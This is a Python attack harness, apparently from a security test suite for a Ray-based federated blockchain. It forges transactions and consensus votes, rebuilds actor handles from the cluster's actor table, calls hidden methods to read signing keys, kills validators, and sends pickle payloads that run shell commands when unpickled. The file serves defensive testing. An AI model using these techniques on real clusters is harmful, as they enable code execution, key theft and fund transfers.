"""The attacking client of experiments/adversary.py: code running in a Ray actor of its own, as a
client's code runs in its pool, with what a client holds: the ingress handles fedray gives pools,
its own client key, and everything Ray lets any worker of the cluster do (list actors in the GCS,
rebuild a handle from an actor id, put objects, create actors). Each method tries one attack and
reports what every attempt returned or raised; the operator's side (adversary_chain.py) judges the
outcome from the chain.

Shipped to the worker by value (`register_pickle_by_value`): workers cannot import this file.
"""

from __future__ import annotations

import os
import sys
from typing import Any

import numpy as np
import ray
import ray.cloudpickle

ray.cloudpickle.register_pickle_by_value(sys.modules[__name__])

ZERO_SIGNATURE = b"\x00" * 64


def _attempt(fn: Any) -> str:
    """'returned ...', 'rejected <codes>' or 'refused: <error>' for one call."""
    try:
        value = fn()
    except Exception as exc:  # the refusal is what we came to see
        text = str(exc).strip().splitlines()
        return f"refused: {type(exc).__name__}: {text[-1][:120] if text else ''}"
    rows = value if isinstance(value, list) else []
    codes = {str(r["code"]) for r in rows if isinstance(r, dict) and "code" in r}
    if value and codes and all(isinstance(r, dict) and "code" in r for r in value):
        return "rejected " + ",".join(sorted(codes))  # a validator's rejection list
    return f"returned {type(value).__name__}: {str(value)[:80]}"


def _codes(fn: Any) -> str:
    """The rejection codes an ingress report or a validator's rejection list holds."""
    try:
        answer = fn()
    except Exception as exc:
        return f"refused: {type(exc).__name__}"
    if hasattr(answer, "rejected"):
        return f"admitted {answer.admitted}, rejected {','.join(answer.rejected) or '-'}"
    return f"rejected {','.join(r['code'] for r in answer) or '-'}"


class RunsCode:
    """Unpickled, it creates `<marker>-<pid of the unpickling process>`: proof that the receiver
    ran the sender's code, and which process did."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (os.system, (f"touch {self.marker}-$PPID",))


class Attacker:
    def __init__(self, ingresses: list[Any], key_seed: bytes, chain_id: str) -> None:
        from fedray.core.crypto import PrivateKey

        self.ingresses = ingresses
        self.key = PrivateKey(key_seed)
        self.chain_id = chain_id

    # --- what Ray lets any worker do ----------------------------------------------------------
    def validators(self) -> list[Any]:
        """Every live validator, its handle rebuilt from what the GCS lists about it."""
        return self.handles("ValidatorService")

    def handles(self, class_name: str) -> list[Any]:
        """Handles of every live actor of `class_name`, built from the GCS actor table (the fields
        of Ray's ActorHandle proto) and registered with this worker's core worker."""
        from ray.core.generated import core_worker_pb2, gcs_pb2

        worker = ray._private.worker.global_worker
        accessor = ray._private.state.state._connect_and_get_accessor()
        out = []
        for raw in accessor.get_actor_table(None, "ALIVE"):
            info = gcs_pb2.ActorTableData.FromString(raw)
            if info.class_name != class_name:
                continue
            proto = core_worker_pb2.ActorHandle(
                actor_id=info.actor_id,
                owner_id=info.owner_address.worker_id,
                owner_address=info.owner_address,
                creation_job_id=info.job_id,
                actor_language=0,  # Python
                actor_creation_task_function_descriptor=info.function_descriptor,
                extension_data=b"0",
                max_task_retries=0,
                max_pending_calls=-1,
            )
            serialized = proto.SerializeToString()
            out.append(
                worker.core_worker.deserialize_and_register_actor_handle(serialized, None, False)
            )
        return out

    def call_any(self, handle: Any, method: str, *args: Any) -> str:
        """Call `method` whether or not the handle lists it: the handle's metadata amended and the
        call built by hand, as any client's code may."""
        from ray._common.signature import extract_signature
        from ray._raylet import PythonFunctionDescriptor
        from ray.actor import ActorMethod

        d = handle._ray_actor_creation_function_descriptor
        handle._ray_method_signatures[method] = extract_signature(lambda *a, **k: None)
        handle._ray_function_descriptor[method] = PythonFunctionDescriptor(
            d.module_name, method, d.class_name
        )
        m = ActorMethod(handle, method, 1, 0, False, False, -1, 1, True)
        return _attempt(lambda: ray.get(m.remote(*args), timeout=30))

    # --- attacks ------------------------------------------------------------------------------
    def forged_transfer(self, victim: bytes, nonce: int, amount: int) -> dict[str, str]:
        """A transfer out of `victim`'s account with 64 zero bytes for a signature, every way."""
        from fedray.core.contracts.accounts import Transfer
        from fedray.core.tx import SignedTx, Tx, to_canonical_map

        body = to_canonical_map(Transfer(self.key.public_key, amount))
        raw = SignedTx(
            Tx(self.chain_id, victim, nonce, 1_000_000, "transfer", body), ZERO_SIGNATURE
        ).raw
        out = {}
        for i, v in enumerate(self.validators()):
            out[f"validator {i} submit_txs(batch, True)"] = _attempt(
                lambda v=v: ray.get(v.submit_txs.remote([raw], True), timeout=30)
            )
            out[f"validator {i} admit_checked(guess)"] = _attempt(
                lambda v=v: ray.get(v.admit_checked.remote(os.urandom(32), [raw]), timeout=30)
            )
            out[f"validator {i} _admit(batch, True)"] = self.call_any(v, "_admit", [raw], True)
            out[f"validator {i} submit_txs(batch)"] = _attempt(
                lambda v=v: ray.get(v.submit_txs.remote([raw]), timeout=30)
            )
        for i, g in enumerate(self.ingresses):
            out[f"ingress {i} submit"] = _attempt(
                lambda g=g: ray.get(g.submit.remote([(raw, None, b"")]), timeout=30)
            )
        return out

    def operator_methods(self, big_mb: int) -> dict[str, str]:
        """The operator's methods, with no capability and with a guessed one."""
        out = {}
        big = {"w": np.zeros(big_mb << 18, dtype=np.int32)}
        for i, v in enumerate(self.validators()[:2]):
            for label, cap in (("no capability", b""), ("guessed", os.urandom(32))):
                calls = {
                    "shutdown": lambda v=v, c=cap: v.shutdown.remote(c),
                    "connect": lambda v=v, c=cap: v.connect.remote(c, []),
                    "start": lambda v=v, c=cap: v.start.remote(c),
                    "put_blob": lambda v=v, c=cap: v.put_blob.remote(c, big),
                    "wait_for_height": lambda v=v, c=cap: v.wait_for_height.remote(c, 10**9, 600),
                }
                for name, call in calls.items():
                    out[f"validator {i} {name} ({label})"] = _attempt(
                        lambda call=call: ray.get(call(), timeout=30)
                    )
        return out

    def internal_methods(self) -> dict[str, str]:
        """A validator's and an ingress's helpers that no face lists."""
        from fedray.core.encoding import encode

        out = {}
        v = self.validators()[0]
        out["validator _fail"] = self.call_any(v, "_fail", ValueError("stop"))
        out["validator _sign_request"] = self.call_any(v, "_sign_request", b"\x01" * 32)
        out["validator _build_now"] = self.call_any(v, "_build_now")
        out["validator subscribe"] = self.call_any(v, "subscribe", b"", None)
        out["validator __init__"] = self.call_any(v, "__init__", "/tmp", b"")
        out["ingress _judge"] = self.call_any(self.ingresses[0], "_judge", (b"", None, b""), None)
        out["ingress _fetch"] = self.call_any(self.ingresses[0], "_fetch", encode(1))
        return out

    def ray_call(self) -> dict[str, str]:
        """`__ray_call__`: run a function on the actor instance (read its key)."""
        v = self.validators()[0]
        return {
            "validator": _attempt(
                lambda: ray.get(v.__ray_call__.remote(lambda s: s._node.key.seed), timeout=30)
            ),
            "ingress": _attempt(
                lambda: ray.get(
                    self.ingresses[0].__ray_call__.remote(lambda s: s._node._capability),
                    timeout=30,
                )
            ),
        }

    def pickled_code(self, marker_dir: str) -> dict[str, str]:
        """Arguments, store objects and return paths that run code when unpickled."""
        out = {}
        v = self.validators()[0]
        g = self.ingresses[0]
        mark = lambda name: RunsCode(os.path.join(marker_dir, name))  # noqa: E731
        out["validator argument"] = _attempt(
            lambda: ray.get(v.round_info.remote(mark("validator-arg")), timeout=30)
        )
        out["validator nested argument"] = _attempt(
            lambda: ray.get(v.submit_txs.remote([mark("validator-nested")]), timeout=30)
        )
        out["ingress argument"] = _attempt(
            lambda: ray.get(g.submit.remote([(b"tx", mark("ingress-arg"), b"")]), timeout=30)
        )
        ref = ray.put({"w": mark("ingress-object")})
        out["ingress object in the store"] = _attempt(
            lambda: ray.get(g.submit.remote([(b"tx", ref, b"")]), timeout=30)
        )
        return out

    def foreign_class(self, marker_dir: str) -> dict[str, str]:
        """Hand a validator and an ingress a handle to an actor of the attacker's own class: Ray
        would unpickle that class (and what it holds) from the function table."""
        loaded = RunsCode(os.path.join(marker_dir, "class-loaded"))
        trojan = type("Trojan", (), {"payload": loaded, "ping": lambda self: os.getpid()})
        handle = ray.remote(num_cpus=0)(trojan).remote()
        out = {"trojan pid": _attempt(lambda: ray.get(handle.ping.remote(), timeout=60))}
        v = self.validators()[0]
        out["validator"] = _attempt(lambda: ray.get(v.round_info.remote(handle), timeout=30))
        out["ingress"] = _attempt(
            lambda: ray.get(self.ingresses[0].account_nonces.remote([handle]), timeout=30)
        )
        ray.kill(handle)
        return out

    def payload_digests(self, lo: int, hi: int) -> list[bytes]:
        """The payload hashes of the update transactions committed in lo..hi (public blocks)."""
        from fedray.core.block import Block
        from fedray.core.tx import SignedTx

        out = []
        for raw_block, _ in self.committed(lo, hi):
            for raw in Block.from_bytes(raw_block).txs:
                stx = SignedTx.decode(raw)
                if stx.tx.kind == "update":
                    out.append(stx.tx.payload["payload_hash"])
        return out

    def read_payload(self, digest: bytes) -> dict[str, str]:
        """Read a pinned payload: without a request, with one signed by the attacker's own key,
        and by having a validator sign one for it."""
        import time

        from fedray.runtime.access import sign_blob_request

        mine = sign_blob_request(self.key, self.chain_id, digest, int(time.time() * 1000))
        out = {}
        for i, v in enumerate(self.validators()):
            out[f"validator {i} no request"] = _attempt(
                lambda v=v: ray.get(v.get_blob.remote(digest), timeout=30)
            )
            out[f"validator {i} client-signed request"] = _attempt(
                lambda v=v: ray.get(v.get_blob.remote(digest, mine), timeout=30)
            )
            out[f"validator {i} _sign_request"] = self.call_any(v, "_sign_request", digest)
        return out

    def forged_consensus(self, victim: bytes, nonce: int, amount: int) -> dict[str, str]:
        """A block moving `victim`'s money, proposed in every validator's name and prevoted and
        precommitted by all of them, each message signed with the attacker's key (or none)."""
        from fedray.consensus.messages import ProposalMessage, VoteMessage
        from fedray.core.block import (
            PRECOMMIT,
            PREVOTE,
            Block,
            CommitCertificate,
            Proposal,
            Vote,
            make_block,
        )
        from fedray.core.contracts.accounts import Transfer
        from fedray.core.crypto import DOMAIN_PROPOSAL, DOMAIN_VOTE
        from fedray.core.state import ValidatorSet
        from fedray.core.tx import SignedTx, Tx, to_canonical_map
        from fedray.runtime.transport import encode_message

        st = self.status()
        [(raw_block, raw_cert)] = self.committed(st.height, st.height)
        tip, cert = Block.from_bytes(raw_block), CommitCertificate.from_bytes(raw_cert)
        voters = [k for k, _ in cert.signatures]
        body = to_canonical_map(Transfer(self.key.public_key, amount))
        tx = SignedTx(Tx(self.chain_id, victim, nonce, 1_000_000, "transfer", body), ZERO_SIGNATURE)
        members = ValidatorSet(tuple(sorted((k, 100_000) for k in voters)))
        h = st.height + 1
        block = make_block(
            self.chain_id,
            h,
            tip.header.time + 1,
            st.last_block_hash,
            st.state_root,
            voters[0],
            members,
            [tx.raw],
            cert,
        )
        raws = []
        for r in range(3):
            for who in voters:
                p = Proposal(h, r, -1, block.hash, who)
                sig = self.key.sign(DOMAIN_PROPOSAL, self.chain_id, p.sign_bytes())
                raws.append(
                    encode_message(ProposalMessage(Proposal(h, r, -1, block.hash, who, sig), block))
                )
                for t in (PREVOTE, PRECOMMIT):
                    v = Vote(t, h, r, block.hash, who)
                    sig = self.key.sign(DOMAIN_VOTE, self.chain_id, v.sign_bytes())
                    raws.append(encode_message(VoteMessage(Vote(t, h, r, block.hash, who, sig))))
                    raws.append(
                        encode_message(VoteMessage(Vote(t, h, r, block.hash, who, ZERO_SIGNATURE)))
                    )
        out = self.send_messages(raws)
        out["messages"] = (
            f"{len(raws)} forged proposals and votes for block {block.hash.hex()[:12]}"
        )
        return out

    def resubmit(self, raws: list[bytes]) -> dict[str, str]:
        """Transactions as they are, to every ingress and every validator's public door; the
        rejection codes each gave (or its error)."""
        out = {}
        batch = [(r, None, b"") for r in raws]
        for i, g in enumerate(self.ingresses):
            out[f"ingress {i}"] = _codes(lambda g=g: ray.get(g.submit.remote(batch), timeout=30))
        for i, v in enumerate(self.validators()):
            out[f"validator {i}"] = _codes(
                lambda v=v: ray.get(v.submit_txs.remote(raws), timeout=30)
            )
        return out

    def my_transfer(self, chain_id: str, to: bytes, amount: int, nonce: int) -> bytes:
        """A transfer signed by this client's key on `chain_id`."""
        from fedray.core.contracts.accounts import Transfer
        from fedray.core.tx import make_tx

        return make_tx(self.key, chain_id, nonce, Transfer(to, amount)).raw

    def rewrite_chain(self, raw: bytes, chain_id: str) -> bytes:
        """A signed transaction with its chain id replaced (the signature left as it was)."""
        from fedray.core.tx import SignedTx, Tx

        stx = SignedTx.decode(raw)
        t = stx.tx
        return SignedTx(
            Tx(chain_id, t.sender, t.nonce, t.gas_limit, t.kind, t.payload), stx.signature
        ).raw

    def derived_client_key(self, cfg: Any, index: int) -> bytes:
        """The key of client `index` as config.yaml alone derives it (simulation mode's rule)."""
        from fedray.federation.plan import Federation

        return Federation(cfg).client_key(index).seed

    def submit(self, batch: list[Any]) -> Any:
        """One ingress batch: its report (the call raises if the batch fails as a whole)."""
        return ray.get(self.ingresses[0].submit.remote(batch), timeout=120)

    def put(self, value: Any) -> list[Any]:
        """An object in the store, owned by this client (wrapped: a bare ref would be resolved)."""
        return [ray.put(value)]

    def send_messages(self, raws: list[bytes]) -> dict[str, str]:
        """Consensus messages to every validator's `receive`."""
        return {
            f"validator {i}": _attempt(lambda v=v: ray.get(v.receive.remote(raws), timeout=30))
            for i, v in enumerate(self.validators())
        }

    def committed(self, lo: int, hi: int) -> list[tuple[bytes, bytes]]:
        return ray.get(self.validators()[0].committed_range.remote(lo, hi), timeout=30)

    def status(self) -> Any:
        return ray.get(self.validators()[0].status.remote(), timeout=30)

    def kill_one(self) -> str:
        """`ray.kill` on a validator's handle rebuilt from the GCS (Ray authorizes no caller)."""
        [victim, *_] = self.validators()
        return _attempt(lambda: ray.kill(victim, no_restart=True))

    def pool_methods(self, pool: Any) -> dict[str, str]:
        """Make another pool's clients vote or train, with a guessed capability."""
        guess = os.urandom(32)
        return {
            "vote": _attempt(
                lambda: ray.get(pool.vote.remote(guess, 0, "yes", self.ingresses), timeout=60)
            ),
            "train_round": _attempt(
                lambda: ray.get(pool.train_round.remote(guess, 0, {}, self.ingresses), timeout=60)
            ),
            "__ray_call__": _attempt(
                lambda: ray.get(
                    pool.__ray_call__.remote(lambda s: len(s._node.pool.keys)), timeout=60
                )
            ),
        }
